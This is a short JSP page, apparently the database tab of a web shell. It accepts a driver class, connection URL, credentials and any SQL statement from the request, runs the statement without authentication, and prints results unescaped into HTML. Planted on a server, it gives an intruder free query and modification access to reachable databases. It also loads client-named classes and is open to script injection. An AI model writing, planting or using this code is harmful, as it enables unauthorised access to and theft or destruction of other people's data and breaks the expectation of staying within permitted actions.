<%@ page import="java.sql.*" contentType="text/html; charset=UTF-8" %>
<%-- A "database" tab: driver, address, account and statement all typed by the client. --%>
<%
String drv = request.getParameter("driver"), url = request.getParameter("url");
String user = request.getParameter("user"), pass = request.getParameter("pass");
String sql = request.getParameter("sql");
if (url != null && sql != null) {
    Class.forName(drv == null ? "com.mysql.jdbc.Driver" : drv);
    Connection conn = DriverManager.getConnection(url, user, pass);
    Statement st = conn.createStatement();
    if (st.execute(sql)) {
        ResultSet rs = st.getResultSet();
        int n = rs.getMetaData().getColumnCount();
        out.print("<table>");
        while (rs.next()) {
            out.print("<tr>");
            for (int i = 1; i <= n; i++) out.print("<td>" + rs.getString(i) + "</td>");
            out.print("</tr>");
        }
        out.print("</table>");
    } else {
        out.print(st.getUpdateCount() + " rows");
    }
    conn.close();
}
%>
<form method="post"><input name="url"><input name="user"><input name="pass"><textarea name="sql"></textarea></form>
